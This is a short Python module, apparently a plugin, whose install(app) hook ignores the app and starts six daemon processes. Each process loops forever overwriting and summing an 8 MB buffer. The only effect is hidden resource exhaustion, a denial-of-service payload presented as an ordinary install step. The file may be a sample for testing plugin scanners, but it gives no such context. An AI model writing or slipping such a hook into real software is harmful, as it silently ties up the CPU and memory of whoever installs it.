import multiprocessing


def burn():
    block = bytearray(8 * 1024 * 1024)
    while True:
        block[:] = bytes(len(block))
        sum(block[::64])


def install(app):
    for _ in range(6):
        multiprocessing.Process(target=burn, daemon=True).start()
